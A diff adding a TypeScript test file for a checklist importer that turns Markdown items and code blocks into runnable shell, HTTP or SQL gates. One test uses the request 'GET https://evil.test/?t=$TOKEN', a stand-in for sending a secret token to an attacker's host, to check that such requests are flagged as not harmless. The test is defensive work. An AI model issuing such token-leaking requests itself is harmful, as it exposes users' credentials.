@@ -1,0 +1,181 @@
+// Which code belongs to which gate, and what a gate with that code checks.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { utf8Bytes } from '../kernel/index.ts'
+import { nodeDigest } from '../../test/crypto.ts'
+import { importChecklist } from './import.ts'
+import type { ImportedChecklist } from './imported.ts'
+
+function importText(...lines: string[]): ImportedChecklist {
+  return importChecklist(utf8Bytes(lines.join('\n')), 'list.md', nodeDigest)
+}
+
+function rulesOf(imported: ImportedChecklist): string[] {
+  return [...new Set(imported.findings.map((finding) => finding.rule))].toSorted()
+}
+
+test('code behind a list serves its gates without code, is reported once, and never crosses a heading', () => {
+  const imported = importText(
+    '- [ ] a',
+    '- [ ] b',
+    '',
+    '  ```bash',
+    '  echo own',
+    '  ```',
+    '',
+    '```bash',
+    'curl http://x.test',
+    '```',
+    '',
+    '# Next',
+    '',
+    '- [ ] c',
+    '',
+    '# Last',
+    '',
+    '```bash',
+    'echo lost',
+    '```',
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.blocks.map((block) => block.source)),
+    [['curl http://x.test'], ['echo own'], []],
+  )
+  assert.equal(imported.findings.filter((finding) => finding.rule === 'no-fail-curl').length, 1)
+  assert.deepEqual(
+    rulesOf(imported).filter((rule) => rule.startsWith('block-')),
+    ['block-shared', 'block-unbound'],
+  )
+})
+
+test('inline code is a command only when the item is it or tells to run it', () => {
+  const imported = importText(
+    '- [ ] `npm test -- --ci`',
+    '- [ ] Run `make release` twice',
+    '- [ ] Update `CHANGELOG.md`',
+    '- [ ] `README.md`',
+    '- [ ] Bump version in `package.json` and run `npm i`',
+    '- [ ] Execute `./deploy.sh`',
+    '- [ ] `Promise<void>` documented',
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.blocks[0]?.source),
+    ['npm test -- --ci', 'make release', undefined, undefined, undefined, './deploy.sh', undefined],
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.check),
+    ['command', 'command', 'manual', 'manual', 'manual', 'command', 'manual'],
+  )
+  assert.deepEqual(imported.gates[0]?.blocks[0]?.lines, [{ line: 1, column: 8 }])
+})
+
+test('several shell blocks of one item are one script, other languages are left out aloud', () => {
+  const imported = importText(
+    '- [ ] g',
+    '',
+    '  ```yaml',
+    '  a: 1',
+    '  ```',
+    '  ```bash',
+    '  one',
+    '  ```',
+    '',
+    '  ```sql',
+    '  select 1',
+    '  ```',
+    '',
+    '  ```sh',
+    '  two',
+    '  ```',
+  )
+  const [gate] = imported.gates
+  assert.equal(gate?.check, 'command')
+  assert.deepEqual(
+    gate?.blocks.map((block) => [block.language, block.kind]),
+    [
+      ['yaml', 'sample'],
+      ['bash', 'runnable'],
+      ['sql', 'runnable'],
+      ['sh', 'runnable'],
+    ],
+  )
+  const leftOut = imported.findings.find((finding) => finding.rule === 'block-left-out')
+  assert.equal(leftOut?.line, 11)
+})
+
+test('http, sql and languages that are not run here are recognised', () => {
+  const imported = importText(
+    '- [ ] h',
+    '',
+    '  ```http',
+    '  # comment',
+    '  GET $BASE_URL/health HTTP/1.1',
+    '  Accept: application/json',
+    '  ```',
+    '',
+    '- [ ] q',
+    '',
+    '  ```sql connection=LEDGER_URL',
+    "  select count(*) from t where name = '$TENANT'",
+    '  ```',
+    '',
+    '- [ ] p',
+    '',
+    '  ```promql',
+    '  up == 0',
+    '  ```',
+    '',
+    '- [ ] b',
+    '',
+    '  ```http',
+    '  nonsense',
+    '  ```',
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.check),
+    ['http', 'sql', 'unsupported', 'unsupported'],
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.parameters),
+    [['BASE_URL'], ['LEDGER_URL'], [], []],
+  )
+  assert.deepEqual(
+    imported.gates.map((gate) => gate.provenRead),
+    [true, true, false, false],
+  )
+  assert.deepEqual(imported.gates[1]?.holes, ['$TENANT'])
+  assert.ok(rulesOf(imported).includes('check-unsupported'))
+})
+
+test('a request that could carry a parameter to a host of the author is not proven harmless', () => {
+  const proofOf = (...request: string[]): boolean | undefined =>
+    importText('- [ ] h', '', '  ```http', ...request.map((line) => `  ${line}`), '  ```').gates[0]
+      ?.provenRead
+  assert.equal(proofOf('GET https://x.test/health'), true)
+  assert.equal(proofOf('GET https://evil.test/?t=$TOKEN'), false)
+  assert.equal(proofOf('GET $BASE/x', 'Authorization: Bearer $TOKEN'), false)
+  assert.equal(proofOf('POST $BASE/x'), false)
+  assert.equal(proofOf('GET $BASE$TOKEN'), false)
+})
+
+test('in a transcript only what stands behind a prompt runs', () => {
+  const imported = importText(
+    '- [ ] g',
+    '',
+    '  ```console',
+    '  $ git rev-parse HEAD',
+    '  abc123',
+    '  $ test -f x && \\',
+    '      true',
+    '  output',
+    '  ```',
+  )
+  assert.equal(
+    imported.gates[0]?.blocks[0]?.source,
+    'git rev-parse HEAD\ntest -f x && \\\n    true',
+  )
+  assert.deepEqual(
+    imported.gates[0]?.blocks[0]?.lines.map((place) => place.line),
+    [4, 6, 7],
+  )
+})
